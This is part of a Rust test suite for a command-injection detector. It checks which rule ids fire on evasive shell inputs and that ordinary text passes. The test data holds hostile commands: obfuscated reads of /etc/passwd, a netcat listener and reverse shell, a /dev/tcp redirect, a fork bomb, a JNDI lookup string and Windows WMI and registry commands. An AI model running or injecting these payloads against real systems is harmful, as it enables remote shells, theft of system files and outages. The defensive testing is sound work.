            "Axel Smith\n",
            "Axel\n",
            "if 50%1 of them agree",
            "if 5% off, buy",
            "blood type: 0+ & type A",
            "what type of sentence; type 'hello' here",
            "& type 5 is rare",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn ordinary_text_passes() {
        for v in [
            "cat food & dog food",
            "Tom & Jerry; the movie",
            "id=42&sort=asc",
            "fish | chips",
            "I said: ls is a command",
            "price $(USD)",
            "{a,b}",
            "rock'n'roll",
            "it's here",
            "ps: see you",
            "lunch; head to the office",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn evasions_undone_in_a_command_word() {
        for (v, id) in [
            // One-character and braced expansions, empty substitutions, escapes.
            ("x;c$*at /et$*c/pas$*swd", "rce-001"),
            ("x;c$-at /etc/hosts", "rce-001"),
            ("/???/c?t /???/p??s??", "rce-003"),
            ("x;/e??/p*sswd", "rce-003"),
            ("uname$u -a", "rce-003"),
            ("{n$u\\c$u,-nlvp,777}", "rce-003"),
            ("ping`` 127.0.0.1", "rce-003"),
            ("ping$() 127.0.0.1", "rce-003"),
            ("pi<()ng 127.0.0.1", "rce-003"),
            ("c{a,oun}t /etc/passwd", "rce-003"),
            ("{,cd,/etc,}", "rce-003"),
            ("${:1337:-x$}{jndi:ldap://x/y}", "rce-003"),
            // Variables at a command position.
            ("x;$c1$c2$c3 /etc/passwd", "rce-001"),
            ("a=nc&&$a -nlvp 555", "rce-001"),
            ("${SHELL} -c \"echo hi\"", "rce-001"),
            ("|$u wget test", "rce-001"),
            ("ip=;$a cat test.txt", "rce-001"),
            ("garb=adduse[r];$garb pizza", "rce-001"),
            // Versions, sourcing, option-only commands, directory changes.
            ("echo | gcc7.4", "rce-001"),
            (";gcc10.1<<<void main(){}", "rce-001"),
            ("x | ${x}gcc7.4", "rce-001"),
            ("ifconfig;. rm -rf /", "rce-001"),
            (";date --file secrets.txt", "rce-001"),
            ("x | sort -u", "rce-001"),
            ("cd /;cd etc;column passwd", "rce-001"),
            ("ll /var/www/", "rce-001"),
            ("\"ll\" /var/www/", "rce-001"),
            ("alias %2Bm a=b", "rce-001"),
            // SQLite's shell, binaries by path, netcat, WMI and the registry.
            (";\\n.databases", "rce-001"),
            ("1;.\\\"shell whoami\n", "rce-001"),
            ("bin/visudo", "rce-001"),
            ("/usr/local/bin/chef-client", "rce-001"),
            ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
            (";iwmi -class Win32_process -name Create", "rce-005"),
            ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
        ] {
            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
        }
        for v in [
            "costs $5 -ish, or $10",
            "price; $5 off today",
            "US$5",
            "Vinyl & CD /DVD combo",
            "CD 1; CD 2",
            "CD / DVD",
            "vinyl & CD ~ 10 dollars",
            "lunch; date with Anna",
            "free shipping; top-rated; sort by price",
            "we'll see",
            "{a,b} and c{x}d",
            "{name}, {title}",
            "recycle bin/cat litter",
            "python3.11 is out",
            "the nc -- network",
            "end of story. tables are set",
            "hello;.NET developers",
            "x=5; $x is five",
            "`a` and `b`",
            "f() and g()",
            "/search?q=1&p=2",
            "see /faq? or /help?",
            "what?/why? and how?",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    fn level2(v: &str) -> Vec<&'static str> {
        let decoded = decode_fully(v.as_bytes(), true, true);
        let with: Vec<_> = detect_level2(&decoded, true, true)
            .into_iter()
            .map(|r| r.id)
            .collect();
        let without: Vec<_> = detect_level2(&decoded, true, false)
            .into_iter()
            .map(|r| r.id)
            .collect();
        assert_eq!(with, without, "{v}: the prechecks change nothing");
        with
    }

    #[test]
    fn level2_command_lines_and_expansions() {
        for (v, id) in [
            ("whoami;0'0'\"", "rce-007"),
            ("visudo", "rce-007"),
            ("chef-shell", "rce-007"),
            ("ansible-doc plugin ping\n", "rce-007"),
            ("cscli alerts list\n", "rce-007"),
            ("pip3 install something\n", "rce-007"),
            ("\"nmap\" -sV host", "rce-007"),
            ("net view", "rce-007"),
            ("NET  share", "rce-007"),
            ("sc query", "rce-007"),
            ("sed -n 1p /etc/passwd", "rce-007"),
            ("sed 's/a/b/' x", "rce-007"),
            ("sed;id", "rce-007"),
            ("chef report nodes", "rce-007"),
            ("${cmd}", "rce-008"),
            ("${x#{}}", "rce-008"),
            ("x ${PATH:-/bin}", "rce-008"),
            ("~%2B5", "rce-008"),
            ("~%2B", "rce-008"),
            ("~-1", "rce-008"),
            ("cd ~-/x", "rce-008"),
            ("!-1!-2", "rce-008"),
            ("/bin/ab", "rce-008"),
            ("x=/usr/local/sbin/thing -x", "rce-008"),
            ("{a,b}", "rce-008"),
            ("echo {1..9}", "rce-008"),
            ("x{,y}", "rce-008"),
        ] {
            assert!(level2(v).contains(&id), "{v}: {:?}", level2(v));
        }
        for v in [
            "net weight 5 kg",
            "net user growth",
            "dir",
            "python tutorial",
            "curl your hair",
            "gzip",
            "split the bill",
            "id",
            "uname",
            // Command names that begin sentences, without their command's arguments.
            "sed de aventura",
            "Sed ut perspiciatis unde omnis iste natus",
            "Chef de partie",
            "Chef",
            "Lynx are shy",
            "Yash Patel",
            "Shred the cheese",
            "Vagrant up the road",
            "Terraform plan for Mars",
            "hello world",
            "about ~0.5 or ~5 km",
            "wow!! -1 point",
            "see the recycle/bin/ folder",
            "/trash-bin/x",
            "costs $5{a}",
            "a ~ b",
            "x-1!-a",
            "lid~%2B",
            "{\"a\": 1, \"b\": 2}",
            "{name}, {title}",
            "{ a, b }",
            "{,}",
            "{1.5}",
            "/[a-z]{1,5}/",
            "\\d{2,}",
        ] {
            assert!(level2(v).is_empty(), "{v}: {:?}", level2(v));
        }
        // Not on a URL path: its first segment is not a command line.
        assert!(detect_level2(b"/whoami", false, true).is_empty());
    }

    #[test]
    fn repeated_pieces_stay_linear() {
        // Each piece a rule looks around from, many times over: quadratic work would take
        // minutes here, linear takes milliseconds.
        for piece in [
            "`",
            "``",
            ";$a",
            "${",
            "{,",
            "bin/",
            "xbin/",
            "nc -x ",
            ";.",
            "a=b;",
            ";alias -a ",
            "~+",
            "!-1",
            ";cd ",
            "$u",
            "/?",
            " /a?",
            "{a,",
            "a{b,c}",
            ";net a{",
            "&net user ",
            ";dir ",
            "|reg add \"",
            ";echo \"",
            ";echo '>",
            "& n^et ",
        ] {
            let value = piece.repeat(40_000 / piece.len());
            let start = std::time::Instant::now();
            let _ = detect_with(&Lowered::new(value.as_bytes()), 1, true);
            let _ = detect_level2(value.as_bytes(), true, true);
            assert!(
                start.elapsed() < std::time::Duration::from_secs(5),
                "{piece:?}: {:?}",
                start.elapsed()
            );
        }
    }

    #[test]
    fn plain_shortcut_keeps_the_new_rules() {
        use crate::detect::{inspect_with, Enabled, ValueKind};
        for (v, kind) in [
            ("gwmi win32_service", ValueKind::Text),
            ("iwmi x", ValueKind::Text),
            ("iwr x", ValueKind::Text),
            ("/usr/bin/visudo", ValueKind::Path),
            ("/x/regedit /s", ValueKind::Path),
            ("net view", ValueKind::Text),
            ("net localgroup administrators", ValueKind::Text),
            ("ipconfig /all", ValueKind::Text),
            ("x/net user a /add", ValueKind::Path),
        ] {
            let ids = |shortcuts| -> Vec<&str> {
                inspect_with(v.as_bytes(), kind, "q", Enabled::STRICT, shortcuts)
                    .into_iter()
                    .map(|f| f.rule.id)
                    .collect()
            };
            assert_eq!(ids(true), ids(false), "{v}");
        }
    }

    #[test]
    fn level2_rules_only_at_level_2() {
        use crate::detect::{inspect, Enabled, ValueKind};
        for (v, id) in [("visudo", "rce-007"), ("x=${cmd}", "rce-008")] {
            let at = |enabled| -> Vec<&str> {
                inspect(v.as_bytes(), ValueKind::Text, "query:q", enabled)
                    .into_iter()
                    .map(|f| f.rule.id)
                    .collect()
            };
            assert!(at(Enabled::ALL).is_empty(), "{v}");
            assert_eq!(at(Enabled::STRICT), [id], "{v}");
        }
        // A level-1 rule names the finding where both match.
        let found = inspect(b"x;whoami", ValueKind::Text, "q", Enabled::STRICT);
        assert_eq!(found.first().map(|f| f.rule.id), Some("rce-001"));
    }

    #[test]
    fn prechecks_keep_every_rule() {
        assert!(WINDOWS_ANCHORS.builds());
        for (v, rule) in [
            ("x $(whoami)", "rce-002"),
            ("x `id`", "rce-002"),
            ("cat <(ls)", "rce-002"),
            ("/bin/c[a]t /etc/passwd", "rce-003"),
            ("x;w'h'oami", "rce-003"),
            ("x${IFS}id", "rce-003"),
            ("{cat,/etc/passwd}", "rce-003"),
            ("x SH\t\t-C id", "rce-004"),
            ("x >/DEV/TCP/1.2.3.4/80", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("x CMD   /C dir", "rce-005"),
            ("x\tPowerShell -enc", "rce-005"),
            ("IF   EXIST c:\\x", "rce-005"),
            ("FOR /F %i in (x) do echo", "rce-005"),
        ] {
            assert!(ids(v).contains(&rule), "{v}: {:?}", ids(v));
        }
    }
}
